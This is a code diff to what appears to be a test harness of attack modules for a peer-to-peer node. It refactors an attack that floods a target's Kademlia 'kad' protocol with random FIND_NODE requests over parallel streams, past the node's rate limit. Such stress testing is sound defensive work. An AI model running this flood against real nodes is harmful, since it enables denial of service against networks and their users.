@@ -1,7 +1,7 @@
 /** FIND_NODE as fast as it goes, by a peer that has greeted: the one call that is served, beyond its limit. */
 
 import { randomBytes } from "node:crypto";
-import { type Attack, atRate, persist, sideBySide } from "../attack.ts";
+import { type Attack, atRate, keepOpening, persist, sideBySide } from "../attack.ts";
 import { nameOf, pour } from "../peer.ts";
 import { KAD, kademlia } from "../wire.ts";
 
@@ -15,16 +15,14 @@ export const attack: Attack = {
     persist(
       context,
       async (peer) => {
-        await sideBySide(STREAMS, async () => {
-          let stream = await peer.open(nameOf(context.target.chain, "kad"));
-          stream.addEventListener("message", () => undefined);
-          await atRate(context, PER_SECOND / STREAMS, async () => {
-            context.count("messages");
-            if (await pour(stream, kademlia(KAD.findNode, randomBytes(32)))) return true;
-            stream = await peer.open(nameOf(context.target.chain, "kad"));
-            return true;
-          });
-        });
+        await sideBySide(STREAMS, () =>
+          keepOpening(context, peer, nameOf(context.target.chain, "kad"), (stream) =>
+            atRate(context, PER_SECOND / STREAMS, async () => {
+              context.count("messages");
+              return await pour(stream, kademlia(KAD.findNode, randomBytes(32)));
+            }),
+          ),
+        );
       },
       true,
     ),
